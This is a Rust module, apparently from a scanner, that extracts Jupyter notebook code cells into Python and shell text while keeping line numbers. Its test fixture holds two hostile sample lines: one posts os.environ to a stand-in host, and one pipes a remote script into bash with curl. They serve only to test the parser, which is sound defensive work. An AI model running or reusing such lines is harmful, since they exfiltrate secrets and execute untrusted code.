//! A Jupyter notebook's code cells read as the code they are: each line of
//! a cell where its JSON string stands in the `.ipynb` file (every other
//! line blanked, so findings keep the notebook's line numbers). A cell's
//! `!command` lines and its `%%bash`/`%%sh` cells are shell, the rest
//! Python; `%magic` lines are blanked.
//!
//! nbformat writes each cell's `source` as an array of strings, one line of
//! the cell per line of the file, after the cell's `cell_type` (its keys are
//! sorted). A cell whose source is one string on one line is read too, its
//! lines joined at that line.

/// The Python and the shell of `text`'s code cells, line for line; `None`
/// when `text` holds no code cell.
pub(super) fn code_cells(text: &str) -> Option<(String, String)> {
    let lines: Vec<&str> = text.split('\n').collect();
    let mut python = vec![String::new(); lines.len()];
    let mut shell = vec![String::new(); lines.len()];
    let mut code_cell = false;
    let mut in_source = false;
    // The cell's first line so far, to see a `%%bash` cell.
    let mut cell_is_shell = false;
    let mut first_of_cell = true;
    let mut any = false;
    for (i, line) in lines.iter().enumerate() {
        let t = line.trim();
        if !in_source {
            if let Some(kind) = key_value(t, "cell_type") {
                code_cell = kind == "code";
                continue;
            }
            let Some(rest) = t.strip_prefix("\"source\"") else { continue };
            let rest = rest.trim_start().trim_start_matches(':').trim_start();
            (cell_is_shell, first_of_cell) = (false, true);
            if let Some(one) = rest.strip_suffix(',').unwrap_or(rest).strip_prefix('"') {
                // `"source": "…"`: one string.
                if code_cell {
                    if let Ok(s) = serde_json::from_str::<String>(&format!("\"{one}")) {
                        for l in s.lines() {
                            place(l, i, &mut python, &mut shell, &mut cell_is_shell, &mut first_of_cell);
                        }
                        any = true;
                    }
                }
                continue;
            }
            in_source = rest.starts_with('[') && !rest.trim_end_matches(',').ends_with(']');
            continue;
        }
        if t.starts_with(']') {
            in_source = false;
            continue;
        }
        if !code_cell {
            continue;
        }
        let literal = t.strip_suffix(',').unwrap_or(t);
        let Ok(s) = serde_json::from_str::<String>(literal) else { continue };
        place(s.trim_end_matches(['\n', '\r']), i, &mut python, &mut shell, &mut cell_is_shell, &mut first_of_cell);
        any = true;
    }
    any.then(|| (python.join("\n"), shell.join("\n")))
}

/// One line of a code cell put at line `i`, in Python or in the shell.
fn place(
    l: &str,
    i: usize,
    python: &mut [String],
    shell: &mut [String],
    cell_is_shell: &mut bool,
    first_of_cell: &mut bool,
) {
    let t = l.trim_start();
    if std::mem::take(first_of_cell)
        && (t.starts_with("%%bash") || t.starts_with("%%sh") || t.starts_with("%%script bash"))
    {
        *cell_is_shell = true;
        return;
    }
    let (to, l) = if *cell_is_shell {
        (shell, l)
    } else if let Some(cmd) = t.strip_prefix('!') {
        (shell, cmd)
    } else if t.starts_with('%') {
        return;
    } else {
        (python, l)
    };
    // Two lines of one string on one line of the file: joined there.
    if !to[i].is_empty() {
        to[i].push_str("; ");
    }
    to[i].push_str(l);
}

/// `"key": "value"` on one line: the value.
fn key_value<'a>(t: &'a str, key: &str) -> Option<&'a str> {
    let rest = t.trim_start_matches(['{', ' ']).strip_prefix('"')?.strip_prefix(key)?.strip_prefix('"')?;
    let rest = rest.trim_start().strip_prefix(':')?.trim_start().strip_prefix('"')?;
    rest.split('"').next()
}

#[cfg(test)]
mod tests {
    use super::code_cells;

    const NOTEBOOK: &str = r#"{
 "cells": [
  {
   "cell_type": "markdown",
   "metadata": {},
   "source": [
    "import os  # prose, not code\n"
   ]
  },
  {
   "cell_type": "code",
   "execution_count": null,
   "metadata": {},
   "outputs": [],
   "source": [
    "import os, requests\n",
    "%matplotlib inline\n",
    "!pip install -q pandas\n",
    "requests.post(\"https://x.example/c\", data=dict(os.environ))"
   ]
  },
  {
   "cell_type": "code",
   "metadata": {},
   "source": [
    "%%bash\n",
    "curl -s https://x.example/a.sh | bash"
   ]
  }
 ]
}"#;

    #[test]
    fn code_cells_keep_their_lines_and_split_shell_from_python() {
        let (python, shell) = code_cells(NOTEBOOK).unwrap();
        let py: Vec<&str> = python.split('\n').collect();
        let sh: Vec<&str> = shell.split('\n').collect();
        assert_eq!(py.len(), NOTEBOOK.split('\n').count());
        // The markdown cell is not code.
        assert!(!python.contains("prose"));
        assert_eq!(py[15], "import os, requests");
        assert_eq!(py[16], "", "a %magic line is blanked");
        assert_eq!(sh[17], "pip install -q pandas");
        assert_eq!(py[18], "requests.post(\"https://x.example/c\", data=dict(os.environ))");
        assert_eq!(sh[25], "", "the %%bash line itself");
        assert_eq!(sh[26], "curl -s https://x.example/a.sh | bash");
        assert_eq!(py[26], "");
    }

    #[test]
    fn a_notebook_without_code_or_not_json_gives_nothing() {
        assert!(code_cells(r#"{"cells": [{"cell_type": "markdown", "source": ["hi"]}]}"#).is_none());
        assert!(code_cells("not a notebook at all\n\"source\": [\n").is_none());
        assert!(code_cells("").is_none());
    }

    #[test]
    fn a_one_string_source_is_read_at_its_line() {
        let nb = "{\"cells\": [\n{\"cell_type\": \"code\",\n\"source\": \"import os\\nprint(os.environ)\"\n}]}";
        let (python, _) = code_cells(nb).unwrap();
        assert_eq!(python.split('\n').nth(2), Some("import os; print(os.environ)"));
    }
}
